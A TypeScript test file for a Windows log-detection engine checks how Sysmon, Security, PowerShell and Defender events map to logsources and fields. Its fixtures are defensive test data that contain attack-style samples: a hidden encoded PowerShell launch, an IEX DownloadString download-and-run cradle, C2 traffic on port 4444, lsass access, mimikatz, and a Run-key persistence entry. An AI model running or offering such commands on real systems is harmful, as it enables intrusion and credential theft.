import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defaultResolver } from '../../../src/detect/mapping/index.ts';
import { eventOf, eventsOf, line, read, selected } from './helpers.ts';

/** Windows logsources and names, on events our windows-json reader makes of small records. */

function nested(system: Record<string, unknown>, data: Record<string, unknown>): string {
  const time = { '#attributes': { SystemTime: '2024-03-04T09:30:00.000Z' } };
  return line({ Event: { System: { TimeCreated: time, Computer: 'WS07.corp.example', ...system }, EventData: data } });
}

const SYSMON = { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, Channel: 'Microsoft-Windows-Sysmon/Operational' };
const HASHES = 'SHA1=0A1B2C3D4E5F60718293A4B5C6D7E8F901234567,MD5=00112233445566778899AABBCCDDEEFF,SHA256=AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34,IMPHASH=FFEEDDCCBBAA99887766554433221100';

const sysmon1 = nested(
  { ...SYSMON, EventID: 1 },
  {
    RuleName: '-',
    ProcessId: '7712',
    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    OriginalFileName: 'PowerShell.EXE',
    CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
    CurrentDirectory: 'C:\\Users\\alice\\',
    User: 'CORP\\alice',
    TerminalSessionId: '1',
    IntegrityLevel: 'Medium',
    Hashes: HASHES,
    ParentProcessId: '10768',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    ParentCommandLine: 'cmd.exe /c run.bat',
  },
);

const PROCESS_CREATION = { product: 'windows', category: 'process_creation' };

test('Sysmon 1: the Sysmon names read the raw EventData; Hashes keeps its SHA1=…,MD5=… form', async () => {
  const event = await eventOf('sysmon.json', sysmon1);
  const ls = PROCESS_CREATION;
  assert.equal(read(event, ls, 'Image'), 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
  assert.equal(read(event, ls, 'CommandLine'), 'powershell.exe -nop -w hidden -enc SQBFAFgA');
  assert.equal(read(event, ls, 'ParentImage'), 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(read(event, ls, 'ParentCommandLine'), 'cmd.exe /c run.bat');
  assert.equal(read(event, ls, 'OriginalFileName'), 'PowerShell.EXE');
  assert.equal(read(event, ls, 'User'), 'CORP\\alice');
  assert.equal(read(event, ls, 'IntegrityLevel'), 'Medium');
  assert.equal(read(event, ls, 'Hashes'), HASHES);
  assert.equal(read(event, ls, 'md5'), '00112233445566778899AABBCCDDEEFF');
  assert.equal(read(event, ls, 'sha256'), 'AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34AB12CD34');
  assert.equal(read(event, ls, 'Imphash'), 'FFEEDDCCBBAA99887766554433221100');
  assert.equal(read(event, ls, 'EventID'), 1);
  assert.equal(read(event, ls, 'Provider_Name'), 'Microsoft-Windows-Sysmon');
  assert.equal(read(event, ls, 'Channel'), 'Microsoft-Windows-Sysmon/Operational');
  assert.equal(read(event, ls, 'Computer'), 'WS07.corp.example');
  assert.equal(read(event, ls, 'RuleName'), '-', 'raw values are not cleaned');
});

test('Windows names: any case, any EventData name, and our schema names under every Windows logsource', async () => {
  const event = await eventOf('sysmon.json', sysmon1);
  assert.equal(read(event, PROCESS_CREATION, 'commandline'), 'powershell.exe -nop -w hidden -enc SQBFAFgA');
  assert.equal(read(event, PROCESS_CREATION, 'TerminalSessionId'), '1', 'not in any table: read from EventData');
  assert.equal(read(event, PROCESS_CREATION, 'NoSuchField'), undefined, 'unknown EventData names resolve and read nothing');
  assert.equal(read(event, PROCESS_CREATION, 'process.command_line'), 'powershell.exe -nop -w hidden -enc SQBFAFgA');
  assert.equal(read(event, PROCESS_CREATION, 'user.name'), 'alice');
  assert.equal(read(event, { product: 'windows' }, 'host.name'), 'WS07.corp.example');
  assert.equal(read(event, PROCESS_CREATION, 'winlog.event_data.ParentProcessId'), '10768');
  assert.deepEqual(read(event, PROCESS_CREATION, 'event.category'), ['process']);
  assert.equal(read(event, PROCESS_CREATION, 'Event.Category'), read(event, PROCESS_CREATION, 'event.category'), 'schema names in any case');
});

test('Sysmon 1 is selected by process_creation and sysmon, not by other Windows logsources or Linux', async () => {
  const event = await eventOf('sysmon.json', sysmon1);
  assert.ok(selected(event, PROCESS_CREATION));
  assert.ok(selected(event, { category: 'process_creation' }));
  assert.ok(selected(event, { product: 'windows' }));
  assert.ok(selected(event, { product: 'windows', service: 'sysmon' }));
  assert.ok(!selected(event, { product: 'windows', service: 'security' }));
  assert.ok(!selected(event, { product: 'windows', category: 'registry_set' }));
  assert.ok(!selected(event, { product: 'windows', category: 'network_connection' }));
  assert.ok(!selected(event, { product: 'linux', category: 'process_creation' }));
});

test('other Sysmon events: each category selects its event id, and its names read the EventData', async () => {
  const records = [
    nested({ ...SYSMON, EventID: 3 }, { Image: 'C:\\Windows\\System32\\rundll32.exe', Initiated: 'true', Protocol: 'tcp', SourceIp: '10.0.0.5', DestinationIp: '203.0.113.9', DestinationPort: '4444', DestinationHostname: 'c2.example.net' }),
    nested({ ...SYSMON, EventID: 7 }, { Image: 'C:\\x\\app.exe', ImageLoaded: 'C:\\x\\evil.dll', Signed: 'false', SignatureStatus: 'Unavailable' }),
    nested({ ...SYSMON, EventID: 10 }, { SourceImage: 'C:\\Temp\\m.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF8)', SourceProcessGUID: '{a}' }),
    nested({ ...SYSMON, EventID: 17 }, { EventType: 'CreatePipe', PipeName: '\\MSSE-1234-server', Image: 'C:\\Temp\\b.exe' }),
    nested({ ...SYSMON, EventID: 22 }, { QueryName: 'c2.example.net', QueryStatus: '0', QueryResults: '::ffff:203.0.113.9;', Image: 'C:\\Temp\\b.exe' }),
  ];
  const [network, imageLoad, access, pipe, dns] = await eventsOf('sysmon.json', records.join(''));
  assert.ok(network && imageLoad && access && pipe && dns);
  const cases: Array<[typeof network, string, Record<string, string>]> = [
    [network, 'network_connection', { DestinationIp: '203.0.113.9', DestinationPort: '4444', DestinationHostname: 'c2.example.net', SourceIp: '10.0.0.5', Initiated: 'true', Image: 'C:\\Windows\\System32\\rundll32.exe' }],
    [imageLoad, 'image_load', { ImageLoaded: 'C:\\x\\evil.dll', Signed: 'false' }],
    [access, 'process_access', { SourceImage: 'C:\\Temp\\m.exe', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010', SourceProcessGuid: '{a}' }],
    [pipe, 'pipe_created', { PipeName: '\\MSSE-1234-server' }],
    [dns, 'dns_query', { QueryName: 'c2.example.net', QueryStatus: '0' }],
  ];
  for (const [event, category, values] of cases) {
    const ls = { product: 'windows', category };
    assert.ok(selected(event, ls), category);
    for (const other of cases) if (other[0] !== event) assert.ok(!selected(other[0], ls), `${category} selects only its event id`);
    for (const [name, value] of Object.entries(values)) assert.equal(read(event, ls, name), value, `${category} ${name}`);
  }
});

const security4625 = line({
  '@timestamp': '2024-03-04T09:16:01.007Z',
  winlog: {
    channel: 'Security',
    computer_name: 'WEB01',
    event_id: 4625,
    provider_name: 'Microsoft-Windows-Security-Auditing',
    keywords: ['Audit Failure'],
    event_data: {
      SubjectUserName: 'WEB01$',
      TargetUserName: 'administrator',
      TargetDomainName: 'WEB01',
      Status: '0xc000006d',
      SubStatus: '0xc000006a',
      LogonType: '10',
      WorkstationName: 'ATTACKER-PC',
      IpAddress: '203.0.113.77',
      IpPort: '0',
      AuthenticationPackageName: 'Negotiate',
    },
  },
});

test('Security 4625: the Security names, selected by service security and our authentication category', async () => {
  const event = await eventOf('security.json', security4625);
  const ls = { product: 'windows', service: 'security' };
  assert.equal(read(event, ls, 'EventID'), 4625);
  assert.equal(read(event, ls, 'TargetUserName'), 'administrator');
  assert.equal(read(event, ls, 'IpAddress'), '203.0.113.77');
  assert.equal(read(event, ls, 'LogonType'), '10');
  assert.equal(read(event, ls, 'WorkstationName'), 'ATTACKER-PC');
  assert.equal(read(event, ls, 'Status'), '0xc000006d');
  assert.equal(read(event, ls, 'AuthenticationPackageName'), 'Negotiate');
  assert.equal(read(event, ls, 'event.outcome'), 'failure');
  assert.equal(read(event, ls, 'source.ip'), '203.0.113.77');
  assert.ok(selected(event, ls));
  assert.ok(selected(event, { category: 'authentication' }));
  assert.ok(!selected(event, PROCESS_CREATION));
  assert.ok(!selected(event, { product: 'windows', service: 'system' }));
});

const security4688 = line({
  '@timestamp': '2024-03-04T09:20:10.110Z',
  log_name: 'Security',
  source_name: 'Microsoft-Windows-Security-Auditing',
  computer_name: 'WS07.corp.example',
  event_id: 4688,
  event_data: {
    SubjectUserName: 'alice',
    SubjectDomainName: 'CORP',
    SubjectLogonId: '0x3e8a1f2',
    NewProcessId: '0x1f3c',
    NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
    ProcessId: '0x2a10',
    CommandLine: 'whoami /priv',
    TargetUserName: '-',
    ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
    MandatoryLabel: 'S-1-16-8192',
  },
});

test('Security 4688 answers process_creation rules under Sysmon 1 names, and keeps its own under service security', async () => {
  const event = await eventOf('security.json', security4688);
  assert.ok(selected(event, PROCESS_CREATION));
  assert.equal(read(event, PROCESS_CREATION, 'Image'), 'C:\\Windows\\System32\\whoami.exe');
  assert.equal(read(event, PROCESS_CREATION, 'ParentImage'), 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(read(event, PROCESS_CREATION, 'CommandLine'), 'whoami /priv');
  assert.equal(read(event, PROCESS_CREATION, 'User'), 'CORP\\alice');
  assert.equal(read(event, PROCESS_CREATION, 'IntegrityLevel'), 'Medium');
  assert.equal(read(event, PROCESS_CREATION, 'ProcessId'), '0x1f3c');
  assert.equal(read(event, PROCESS_CREATION, 'ParentProcessId'), '0x2a10');
  assert.equal(read(event, PROCESS_CREATION, 'LogonId'), '0x3e8a1f2');
  const security = { product: 'windows', service: 'security' };
  assert.equal(read(event, security, 'ProcessId'), '0x2a10', 'the raw name means the creator under service security');
  assert.equal(read(event, security, 'Image'), undefined);
  assert.equal(read(event, security, 'NewProcessName'), 'C:\\Windows\\System32\\whoami.exe');
});

test('registry categories follow Sysmon 12/13/14 and the EventType of 12', async () => {
  const deleted = await eventOf('reg.json', nested({ ...SYSMON, EventID: 12 }, { EventType: 'DeleteKey', TargetObject: 'HKLM\\SOFTWARE\\Evil', Image: 'C:\\x.exe' }));
  assert.ok(selected(deleted, { product: 'windows', category: 'registry_delete' }));
  assert.ok(selected(deleted, { product: 'windows', category: 'registry_event' }));
  assert.ok(!selected(deleted, { product: 'windows', category: 'registry_add' }));
  assert.ok(!selected(deleted, { product: 'windows', category: 'registry_set' }));
  const set = await eventOf('reg.json', nested({ ...SYSMON, EventID: 13 }, { EventType: 'SetValue', TargetObject: 'HKCU\\Run\\x', Details: 'C:\\evil.exe' }));
  const ls = { product: 'windows', category: 'registry_set' };
  assert.ok(selected(set, ls));
  assert.equal(read(set, ls, 'TargetObject'), 'HKCU\\Run\\x');
  assert.equal(read(set, ls, 'Details'), 'C:\\evil.exe');
  assert.equal(read(set, ls, 'EventType'), 'SetValue');
  const nxlog = await eventOf(
    'nxlog.json',
    line({ EventTime: '2024-03-04 09:30:00', Hostname: 'WS07', EventType: 'INFO', SeverityValue: 2, EventID: 13, SourceName: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational', TargetObject: 'HKCU\\Run\\x', Details: 'C:\\evil.exe' }),
  );
  assert.ok(selected(nxlog, ls));
  assert.equal(read(nxlog, ls, 'EventType'), 'SetValue', 'NXLog writes its severity over EventType: the operation comes back from the event id');
});

const POWERSHELL_OPERATIONAL = { Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } }, Channel: 'Microsoft-Windows-PowerShell/Operational' };
const POWERSHELL_CLASSIC = { Provider: { '#attributes': { Name: 'PowerShell' } }, Channel: 'Windows PowerShell' };

test('PowerShell: 4104 is ps_script of service powershell; classic 400 is ps_classic_start with its unnamed Data', async () => {
  const block = await eventOf('ps.json', nested({ ...POWERSHELL_OPERATIONAL, EventID: 4104 }, { ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")', Path: '' }));
  assert.ok(selected(block, { product: 'windows', category: 'ps_script' }));
  assert.ok(selected(block, { product: 'windows', service: 'powershell' }));
  assert.ok(!selected(block, { product: 'windows', service: 'powershell-classic' }));
  assert.ok(!selected(block, { product: 'windows', category: 'ps_module' }));
  assert.match(String(read(block, { product: 'windows', category: 'ps_script' }, 'ScriptBlockText')), /DownloadString/);
  const classic = await eventOf('ps.json', nested({ ...POWERSHELL_CLASSIC, EventID: 400 }, { Data: ['Available', 'None', 'NewEngineState=Available\n\tHostApplication=powershell.exe -enc SQBFAFgA'] }));
  const ls = { product: 'windows', category: 'ps_classic_start' };
  assert.ok(selected(classic, ls));
  assert.ok(selected(classic, { product: 'windows', service: 'powershell-classic' }));
  assert.ok(!selected(classic, { product: 'windows', category: 'ps_script' }));
  const data = read(classic, ls, 'Data');
  assert.ok(Array.isArray(data) && data.some((d) => String(d).includes('HostApplication=powershell.exe -enc')), JSON.stringify(data));
});

test('Defender: service windefend and category antivirus; Sigma names without the spaces Defender writes', async () => {
  const channel = { Provider: { '#attributes': { Name: 'Microsoft-Windows-Windows Defender' } }, Channel: 'Microsoft-Windows-Windows Defender/Operational' };
  const event = await eventOf('defender.json', nested({ ...channel, EventID: 1116 }, { 'Threat Name': 'HackTool:Win64/Mimikatz', 'Source Name': 'Real-Time Protection', Path: 'file:_C:\\Temp\\m.exe', 'Process Name': 'C:\\Windows\\explorer.exe' }));
  const ls = { product: 'windows', service: 'windefend' };
  assert.ok(selected(event, ls));
  assert.ok(selected(event, { category: 'antivirus' }));
  assert.equal(read(event, ls, 'ThreatName'), 'HackTool:Win64/Mimikatz');
  assert.equal(read(event, ls, 'SourceName'), 'Real-Time Protection');
  assert.equal(read(event, ls, 'ProcessName'), 'C:\\Windows\\explorer.exe');
  assert.equal(read(event, { category: 'antivirus' }, 'Signature'), 'HackTool:Win64/Mimikatz');
  assert.equal(read(event, { category: 'antivirus' }, 'Filename'), 'file:_C:\\Temp\\m.exe');
});

test('an EDR process record in generic JSON answers Windows process_creation through our schema fields', async () => {
  const record = { timestamp: '2024-03-10T08:28:00Z', source: 'endpoint', host: 'wkst-02', user: 'bob', process_name: 'mimikatz.exe', process_id: 8072, parent_process: 'cmd.exe', command_line: 'C:\\Windows\\System32\\mimikatz.exe -enc base64data', event_type: 'process_start' };
  const event = await eventOf('edr.jsonl', line(record));
  assert.equal(event.vigil.format, 'generic-json');
  assert.ok(selected(event, PROCESS_CREATION));
  assert.ok(!selected(event, { product: 'linux', category: 'process_creation' }));
  assert.equal(read(event, PROCESS_CREATION, 'Image'), 'C:\\Windows\\System32\\mimikatz.exe', 'the path comes from the command line');
  assert.equal(read(event, PROCESS_CREATION, 'CommandLine'), 'C:\\Windows\\System32\\mimikatz.exe -enc base64data');
  assert.equal(read(event, PROCESS_CREATION, 'ParentImage'), 'cmd.exe');
  assert.equal(read(event, PROCESS_CREATION, 'User'), 'bob');
  assert.equal(read(event, PROCESS_CREATION, 'OriginalFileName'), undefined);
});

test('Windows logsources without any data of ours are unsupported; unknown services too', () => {
  assert.equal(defaultResolver.selects({ product: 'windows', category: 'file_access' }), undefined);
  assert.equal(defaultResolver.selects({ product: 'windows', category: 'file_rename' }), undefined);
  assert.equal(defaultResolver.selects({ product: 'windows', service: 'no-such-channel' }), undefined);
  assert.notEqual(defaultResolver.selects({ product: 'windows', service: 'taskscheduler' }), undefined);
  assert.notEqual(defaultResolver.selects({ product: 'windows', service: 'wmi' }), undefined);
  assert.notEqual(defaultResolver.selects({ product: 'windows', category: 'create_stream_hash' }), undefined);
});
